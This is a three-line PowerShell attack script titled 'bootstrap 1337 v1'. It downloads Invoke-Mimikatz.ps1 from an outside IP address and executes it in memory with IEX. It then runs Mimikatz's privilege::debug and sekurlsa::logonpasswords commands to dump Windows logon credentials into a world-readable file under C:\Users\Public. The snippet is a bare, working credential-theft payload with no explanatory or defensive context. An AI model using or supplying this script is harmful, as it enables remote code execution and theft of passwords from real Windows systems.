# bootstrap 1337 v1
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.17/Invoke-Mimikatz.ps1')
Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-File C:\Users\Public\o.txt
